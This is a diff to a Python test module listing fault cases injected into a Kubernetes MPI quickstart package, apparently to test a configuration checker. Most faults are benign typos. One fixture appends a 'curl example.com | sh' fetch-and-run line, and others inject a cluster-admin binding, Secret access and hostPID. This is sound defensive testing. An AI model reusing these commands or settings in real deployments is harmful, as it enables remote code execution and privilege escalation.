@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from dataclasses import dataclass
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 from tests.files import replace
 
@@ -16,6 +16,11 @@ MULTI = "quickstart/k8s/mlops/multi-node"
 SINGLE = "quickstart/k8s/mlops/single-node"
 GPU = "quickstart/common/mpi/k8s/mlops/gpu/patch"
 SCRIPTS = "quickstart/scripts"
+POD = f"{SINGLE}/pod.yaml"
+PATCH = f"{SINGLE}/pod-patch.yaml"
+ENV = f"{SINGLE}/mlops.env"
+LIST = f"{SINGLE}/kustomization.yaml"
+MPI_JOB = f"{MULTI}/mpi-job.yaml"
 
 
 @dataclass(frozen=True, slots=True)
@@ -68,6 +73,16 @@ def append(file: str, text: str) -> Callable[[Path], object]:
             stream.write(text)
 
     return put_in
+
+
+def changed(name: str, happens: str, file: str, old: str, new: str, line: str | None = None, **more: Any) -> Fault:
+    """Return the fault of `new` in the place of `old`; a finding points at it, or at `line`."""
+    return Fault(name, happens, edit(file, old, new), file, new.strip() if line is None else line, **more)
+
+
+def appended(name: str, happens: str, file: str, text: str, line: str | None = None, **more: Any) -> Fault:
+    """Return the fault of `text` at the end of `file`; a finding points at it, or at `line`."""
+    return Fault(name, happens, append(file, text), file, text.strip() if line is None else line, **more)
 
 
 def _rename(package: Path) -> None:
@@ -130,12 +145,12 @@ def _add_file(package: Path) -> None:
 
 
 FAULTS = (
-    Fault(
+    appended(
         "changed-script",
         "the code is not the code that was sent",
-        append(f"{BASE}/identity.sh", "curl example.com | sh\n"),
         f"{BASE}/identity.sh",
-        "",
+        "curl example.com | sh\n",
+        line="",
         sealed=False,
     ),
     Fault(
@@ -155,65 +170,59 @@ FAULTS = (
         "",
         sealed=False,
     ),
-    Fault(
+    changed(
         "missing-resource",
         "nothing renders",
-        edit(f"{MULTI}/kustomization.yaml", "  - mpi-job.yaml", "  - mpijob.yaml"),
         f"{MULTI}/kustomization.yaml",
-        "mpijob.yaml",
+        "  - mpi-job.yaml",
+        "  - mpijob.yaml",
+        line="mpijob.yaml",
     ),
-    Fault(
+    changed(
         "yaml-syntax",
         "nothing renders",
-        edit(f"{SINGLE}/pod.yaml", "  restartPolicy: Never", "  restartPolicy: [Never"),
-        f"{SINGLE}/pod.yaml",
-        "automountServiceAccountToken",
+        POD,
+        "  restartPolicy: Never",
+        "  restartPolicy: [Never",
+        line="automountServiceAccountToken",
     ),
-    Fault(
-        "unknown-kustomize-field",
-        "nothing renders",
-        edit(f"{SINGLE}/kustomization.yaml", "patches:", "patchs:"),
-        f"{SINGLE}/kustomization.yaml",
-        "patchs:",
-    ),
-    Fault(
+    changed("unknown-kustomize-field", "nothing renders", LIST, "patches:", "patchs:"),
+    appended(
         "deprecated-field",
         "a later kubectl refuses it",
-        append(f"{SINGLE}/kustomization.yaml", "commonLabels:\n  app.kubernetes.io/part-of: vision\n"),
-        f"{SINGLE}/kustomization.yaml",
-        "commonLabels:",
+        LIST,
+        "commonLabels:\n  app.kubernetes.io/part-of: vision\n",
+        line="commonLabels:",
     ),
-    Fault(
+    changed(
         "patch-of-nothing",
         "nothing renders",
-        edit(f"{MULTI}/mlops-job-patch.yaml", "name: hello-mpi", "name: hello-mpi-multi-node"),
         f"{MULTI}/mlops-job-patch.yaml",
+        "name: hello-mpi",
         "name: hello-mpi-multi-node",
     ),
-    Fault(
+    changed(
         "replacement-of-nothing",
         "nothing renders",
-        edit(
-            f"{SINGLE}/wiring.yaml",
-            "[name=^main$].volumeMounts.[name=^output$]",
-            "[name=^main$].volumeMounts.[name=^results$]",
-        ),
         f"{SINGLE}/wiring.yaml",
-        "[name=^results$]",
+        "[name=^main$].volumeMounts.[name=^output$]",
+        "[name=^main$].volumeMounts.[name=^results$]",
+        line="[name=^results$]",
     ),
-    Fault(
+    changed(
         "remote-resource",
         "what is applied comes from a server",
-        edit(f"{SINGLE}/kustomization.yaml", "  - pod.yaml", "  - pod.yaml\n  - https://localhost:1/more.yaml"),
-        f"{SINGLE}/kustomization.yaml",
-        "more.yaml",
+        LIST,
+        "  - pod.yaml",
+        "  - pod.yaml\n  - https://localhost:1/more.yaml",
+        line="more.yaml",
     ),
-    Fault(
+    appended(
         "remote-openapi",
         "how it renders depends on a server",
-        append(f"{SINGLE}/kustomization.yaml", "openapi:\n  path: https://localhost:1/schema.json\n"),
-        f"{SINGLE}/kustomization.yaml",
-        "openapi:",
+        LIST,
+        "openapi:\n  path: https://localhost:1/schema.json\n",
+        line="openapi:",
     ),
     Fault(
         "remote-transformer",
@@ -222,111 +231,60 @@ FAULTS = (
         f"{GPU}/gpu.yaml",
         "path: https://localhost:1/patch.yaml",
     ),
-    Fault(
-        "key-of-another-case",
-        "kubectl uses a key that a reader overlooks",
-        edit(f"{SINGLE}/kustomization.yaml", "patches:", "Patches:"),
-        f"{SINGLE}/kustomization.yaml",
-        "Patches:",
-    ),
-    Fault(
+    changed("key-of-another-case", "kubectl uses a key that a reader overlooks", LIST, "patches:", "Patches:"),
+    changed(
         "merged-key",
         "kubectl uses a key that a reader overlooks",
-        edit(f"{SINGLE}/kustomization.yaml", "nameSuffix: -single-node", "<<: {nameSuffix: -single-node}"),
-        f"{SINGLE}/kustomization.yaml",
-        "<<: {",
+        LIST,
+        "nameSuffix: -single-node",
+        "<<: {nameSuffix: -single-node}",
+        line="<<: {",
     ),
-    Fault(
-        "duplicate-env-key",
-        "nothing renders",
-        append(f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
-        f"{MULTI}/mlops.env",
-        "DATASET_DIR=/data",
+    appended("duplicate-env-key", "nothing renders", f"{MULTI}/mlops.env", "DATASET_DIR=/data\n"),
+    changed(
+        "quoted-env-value", "the folder's name has quotes in it", ENV, "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'
     ),
-    Fault(
-        "quoted-env-value",
-        "the folder's name has quotes in it",
-        edit(f"{SINGLE}/mlops.env", "DATASET_DIR=/dataset", 'DATASET_DIR="/dataset"'),
-        f"{SINGLE}/mlops.env",
-        'DATASET_DIR="/dataset"',
-    ),
-    Fault(
+    appended(
         "long-env-line",
         "two variables are lost without a message",
-        append(f"{SINGLE}/mlops.env", f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n"),
-        f"{SINGLE}/mlops.env",
-        "VOCABULARY=",
+        ENV,
+        f"VOCABULARY={'word,' * 14_000}\nEPOCHS=90\n",
+        line="VOCABULARY=",
     ),
-    Fault(
-        "exported-env-key",
-        "the API server refuses the ConfigMap",
-        append(f"{SINGLE}/mlops.env", "export EPOCHS=90\n"),
-        f"{SINGLE}/mlops.env",
-        "export EPOCHS",
+    appended(
+        "exported-env-key", "the API server refuses the ConfigMap", ENV, "export EPOCHS=90\n", line="export EPOCHS"
     ),
-    Fault(
-        "unknown-field",
-        "the field is dropped, or the pod refused",
-        edit(f"{SINGLE}/pod.yaml", "      workingDir: /", "      workDir: /"),
-        f"{SINGLE}/pod.yaml",
-        "workDir: /",
+    changed(
+        "unknown-field", "the field is dropped, or the pod refused", POD, "      workingDir: /", "      workDir: /"
     ),
-    Fault(
-        "text-for-a-number",
-        "the API server refuses the pod",
-        edit(f"{SINGLE}/pod-patch.yaml", "runAsUser: 1000", 'runAsUser: "1000"'),
-        f"{SINGLE}/pod-patch.yaml",
-        'runAsUser: "1000"',
-    ),
-    Fault(
+    changed("text-for-a-number", "the API server refuses the pod", PATCH, "runAsUser: 1000", 'runAsUser: "1000"'),
+    changed(
         "missing-field",
         "the API server refuses the pod",
-        edit(
-            f"{SINGLE}/pod.yaml",
-            "        defaultMode: 365 #",
-            "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
-        ),
-        f"{SINGLE}/pod.yaml",
-        "- key: hello.sh",
+        POD,
+        "        defaultMode: 365 #",
+        "        items:\n          - key: hello.sh\n        defaultMode: 365 #",
+        line="- key: hello.sh",
     ),
-    Fault(
+    changed(
         "field-of-another-place",
         "the pod's user does not own the files on the volume",
-        edit(
-            f"{MULTI}/mpi-job.yaml",
-            "                allowPrivilegeEscalation: false\n",
-            "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
-        ),
-        f"{MULTI}/mpi-job.yaml",
-        "fsGroup: 1000",
+        MPI_JOB,
+        "                allowPrivilegeEscalation: false\n",
+        "                allowPrivilegeEscalation: false\n                fsGroup: 1000\n",
+        line="fsGroup: 1000",
     ),
-    Fault(
+    changed(
         "misspelt-policy",
         "the operator takes it for another policy, without a message",
-        edit(f"{MULTI}/mpi-job.yaml", "cleanPodPolicy: Running", "cleanPodPolicy: running"),
-        f"{MULTI}/mpi-job.yaml",
+        MPI_JOB,
+        "cleanPodPolicy: Running",
         "cleanPodPolicy: running",
     ),
+    changed("two-launchers", "the operator refuses the job, in an event", MPI_JOB, "replicas: 1", "replicas: 2"),
+    changed("too-many-processes", "mpirun refuses to start", f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
     Fault(
-        "two-launchers",
-        "the operator refuses the job, in an event",
-        edit(f"{MULTI}/mpi-job.yaml", "replicas: 1", "replicas: 2"),
-        f"{MULTI}/mpi-job.yaml",
-        "replicas: 2",
-    ),
-    Fault(
-        "too-many-processes",
-        "mpirun refuses to start",
-        edit(f"{MULTI}/mlops.env", "PROCESSES=all\n", "PROCESSES=9\n"),
-        f"{MULTI}/mlops.env",
-        "PROCESSES=9",
-    ),
-    Fault(
-        "too-long-name",
-        "the operator refuses the job, in an event",
-        _rename,
-        f"{MULTI}/mpi-job.yaml",
-        "name: hello-message-passing",
+        "too-long-name", "the operator refuses the job, in an event", _rename, MPI_JOB, "name: hello-message-passing"
     ),
     Fault(
         "operators-name",
@@ -335,49 +293,35 @@ FAULTS = (
         f"{MULTI}/service.yaml",
         "name: hello-mpi",
     ),
-    Fault(
-        "missing-configmap",
-        "the container never starts",
-        edit(f"{SINGLE}/pod.yaml", "name: hello-mpi-env", "name: hello-mpi-environment"),
-        f"{SINGLE}/pod.yaml",
-        "name: hello-mpi-environment",
+    changed(
+        "missing-configmap", "the container never starts", POD, "name: hello-mpi-env", "name: hello-mpi-environment"
     ),
-    Fault(
-        "missing-script",
-        "the container ends with 127",
-        edit(f"{SINGLE}/pod.yaml", "scripts/hello.sh", "scripts/helo.sh"),
-        f"{SINGLE}/pod.yaml",
-        "scripts/helo.sh",
-    ),
-    Fault(
+    changed("missing-script", "the container ends with 127", POD, "scripts/hello.sh", "scripts/helo.sh"),
+    changed(
         "missing-volume",
         "the API server refuses the pod; for an MPIJob, only an event says so",
-        edit(f"{MULTI}/mpi-job.yaml", "            - name: home\n              emptyDir: {}\n", ""),
-        f"{MULTI}/mpi-job.yaml",
-        "- name: home",
+        MPI_JOB,
+        "            - name: home\n              emptyDir: {}\n",
+        "",
+        line="- name: home",
     ),
-    Fault(
+    changed(
         "missing-claim",
         "the pod waits forever",
-        # The first volume is that of the results.
-        edit(f"{SINGLE}/pod.yaml", "emptyDir: {}", "persistentVolumeClaim:\n        claimName: results"),
-        f"{SINGLE}/pod.yaml",
-        "claimName: results",
+        POD,
+        "emptyDir: {}",
+        "persistentVolumeClaim:\n        claimName: results",
+        line="claimName: results",
     ),
-    Fault(
+    changed(
         "image-without-tag",
         "a later pull may get a different image",
-        edit(f"{SINGLE}/mlops.env", "mpioperator/mpi-pi:openmpi", "mpioperator/mpi-pi"),
-        f"{SINGLE}/mlops.env",
-        "IMAGE=mpioperator/mpi-pi",
+        ENV,
+        "mpioperator/mpi-pi:openmpi",
+        "mpioperator/mpi-pi",
+        line="IMAGE=mpioperator/mpi-pi",
     ),
-    Fault(
-        "request-above-limit",
-        "the API server refuses the pod",
-        edit(f"{SINGLE}/pod.yaml", "memory: 16Mi", "memory: 16Gi"),
-        f"{SINGLE}/pod.yaml",
-        "memory: 16Gi",
-    ),
+    changed("request-above-limit", "the API server refuses the pod", POD, "memory: 16Mi", "memory: 16Gi"),
     Fault(
         "binding-to-cluster-admin",
         "every pod of the namespace may do anything in the cluster",
@@ -392,45 +336,29 @@ FAULTS = (
         f"{SINGLE}/dns.yaml",
         "namespace: kube-system",
     ),
-    Fault(
+    changed(
         "read-secret",
         "the code can read a Secret that is not meant for it",
-        edit(
-            f"{SINGLE}/pod.yaml",
-            "        - configMapRef:\n",
-            "        - secretRef:\n            name: database\n        - configMapRef:\n",
-        ),
-        f"{SINGLE}/pod.yaml",
-        "name: database",
+        POD,
+        "        - configMapRef:\n",
+        "        - secretRef:\n            name: database\n        - configMapRef:\n",
+        line="name: database",
     ),
-    Fault(
-        "privileged-edit",
-        "the pod has root rights on the node",
-        append(f"{SINGLE}/pod-patch.yaml", "  hostPID: true\n"),
-        f"{SINGLE}/pod-patch.yaml",
-        "hostPID: true",
-        sealed=False,
-    ),
-    Fault(
+    appended("privileged-edit", "the pod has root rights on the node", PATCH, "  hostPID: true\n", sealed=False),
+    changed(
         "hidden-system",
         "the container has no /etc/passwd, and ssh no configuration",
-        edit(f"{SINGLE}/mlops.env", "OUTPUT_DIR=ROOT/hello-mpi/output", "OUTPUT_DIR=/etc"),
-        f"{SINGLE}/mlops.env",
+        ENV,
+        "OUTPUT_DIR=ROOT/hello-mpi/output",
         "OUTPUT_DIR=/etc",
     ),
-    Fault(
+    changed(
         "half-a-device",
         "the API server refuses the pod",
-        edit(f"{SINGLE}/pod.yaml", "        limits:\n", "        limits:\n          nvidia.com/gpu: 0.5\n"),
-        f"{SINGLE}/pod.yaml",
-        "nvidia.com/gpu: 0.5",
+        POD,
+        "        limits:\n",
+        "        limits:\n          nvidia.com/gpu: 0.5\n",
+        line="nvidia.com/gpu: 0.5",
     ),
-    Fault(
-        "added-workload",
-        "an edit adds a workload that was not sealed",
-        _second,
-        f"{SINGLE}/pod.yaml",
-        "kind: Pod",
-        sealed=False,
-    ),
+    Fault("added-workload", "an edit adds a workload that was not sealed", _second, POD, "kind: Pod", sealed=False),
 )
